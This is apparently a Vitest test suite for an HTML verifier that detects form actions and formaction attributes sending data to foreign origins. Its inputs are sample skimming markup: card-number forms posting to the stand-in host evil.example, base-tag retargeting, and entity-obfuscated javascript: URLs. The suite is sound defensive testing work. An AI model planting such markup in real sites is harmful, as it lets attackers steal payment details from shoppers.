import { describe, expect, it } from 'vitest';
import { verifyHtml } from './policy.js';

const formFindings = async (html: string) => (await verifyHtml(html)).findings.filter((f) => f.kind === 'form-action');

describe('form targets (F-01..F-15)', () => {
  it('finds a plain foreign action and resolves it (F-01)', async () => {
    const [f] = await formFindings('<form action="https://evil.example/c" method=post><input name=cc></form>');
    expect(f).toMatchObject({ allowed: false, reason: 'foreign-form-action', url: 'https://evil.example/c', origin: 'https://evil.example', element: 'form', attribute: 'action', line: 1, col: 7 });
  });

  it('allows the allowlisted gateway URL with its entry', async () => {
    const [f] = await formFindings('<form action="https://pay.gateway.example/charge"></form>');
    expect(f).toMatchObject({ allowed: true, entry: { why: 'card payment gateway' } });
  });

  it('a form with no action posts to the document URL, ignoring <base> (F-02)', async () => {
    const findings = await formFindings('<base href="/other/"><form></form><form action=""></form>');
    expect(findings.map((f) => f.url)).toEqual(['https://shop.example/checkout/', 'https://shop.example/checkout/']);
    expect(findings.every((f) => f.allowed)).toBe(true);
  });

  it('action=" " with a foreign base is flagged under either reading (F-03)', async () => {
    const findings = await formFindings('<base href="https://evil.example/"><form action=" "></form>');
    expect(findings[0]).toMatchObject({ allowed: false, url: 'https://evil.example/' });
  });

  it('action=" " gets a finding for each reading: the spec\'s base URL and Chromium\'s document URL (F-03)', async () => {
    const findings = await formFindings('<base href="https://evil.example/"><form action=" "></form>');
    expect(findings.map((f) => [f.url, f.allowed])).toEqual([
      ['https://evil.example/', false],
      ['https://shop.example/checkout/', true],
    ]);
  });

  it('action="&#1;" resolves to the base URL (F-03)', async () => {
    const [f] = await formFindings('<base href="https://evil.example/x/"><form action="&#1;"></form>');
    expect(f).toMatchObject({ allowed: false, url: 'https://evil.example/x/' });
  });

  it('case, slash separators, duplicates and entities are read as the tokenizer reads them (F-04)', async () => {
    const findings = await formFindings(
      '<FORM ACTION=https://evil.example/a></FORM><form/action=https://evil.example/b></form>' +
        '<form action="/ok" ACTION="https://evil.example/c"></form><form action="&#x68;ttps&colon;//evil.example/d"></form>',
    );
    expect(findings.map((f) => f.url)).toEqual([
      'https://evil.example/a',
      'https://evil.example/b',
      'https://shop.example/ok',
      'https://evil.example/d',
    ]);
  });

  it('finds a formaction on a button outside any form (F-05, F-06)', async () => {
    const [f] = await formFindings('<div><button form=pay formaction="https://evil.example/">Pay</button></div>');
    expect(f).toMatchObject({ element: 'button', attribute: 'formaction', allowed: false, reason: 'foreign-form-action' });
  });

  it('finds formaction on any element, input type=image and a plain div included', async () => {
    const findings = await formFindings('<input type=image formaction=//evil.example/i><div formaction=//evil.example/d></div>');
    expect(findings.map((f) => f.element)).toEqual(['input', 'div']);
  });

  it('finds the empty form of a table-parsed form whose input sits elsewhere (F-07)', async () => {
    const findings = await formFindings('<table><form action=https://evil.example/><tr><td><input name=cc></table>');
    expect(findings).toHaveLength(1);
    expect(findings[0]!.allowed).toBe(false);
  });

  it('a <base> after the form retargets it (F-10)', async () => {
    const v = await verifyHtml('<form action="pay"></form><p><base href="https://evil.example/">');
    expect(v.violations.map((f) => [f.kind, f.reason, f.url])).toEqual([
      ['form-action', 'foreign-form-action', 'https://evil.example/pay'],
      ['base', 'foreign-base', 'https://evil.example/'],
    ]);
  });

  it('only the first <base href> counts, a same-origin one is allowed', async () => {
    const v = await verifyHtml('<base href="/shop/"><base href="/ignored/"><form action="pay"></form>');
    expect(v.findings.find((f) => f.kind === 'form-action')?.url).toBe('https://shop.example/shop/pay');
    expect(v.violations).toEqual([]);
  });

  it('javascript:, data: and mailto: actions are violations (F-11)', async () => {
    const findings = await formFindings(
      '<form action="java&#x09;script&colon;alert(1)"></form><form action="data:text/html,x"></form><form action="mailto:a@evil.example"></form>',
    );
    expect(findings.map((f) => f.reason)).toEqual(['javascript-url', 'data-url-code', 'foreign-form-action']);
  });

  it('method=dialog does not exempt a form (F-12)', async () => {
    const findings = await formFindings('<form method=dialog action=https://evil.example/><button formmethod=post>x</button></form>');
    expect(findings[0]?.allowed).toBe(false);
  });

  it('a same-origin action to another path is allowed by self, a path-pinned gateway is not widened', async () => {
    const findings = await formFindings('<form action="/contact"></form><form action="https://pay.gateway.example/other"></form>');
    expect(findings.map((f) => f.allowed)).toEqual([true, false]);
  });

  it('<svg><form> and <math><mtext><form> are checked too (F-09)', async () => {
    const findings = await formFindings('<svg><form action=//evil.example/s></form></svg><math><mtext><form action=//evil.example/m></form></mtext></math>');
    expect(findings.map((f) => [f.element, f.allowed])).toEqual([
      ['svg:form', false],
      ['form', false],
    ]);
  });
});
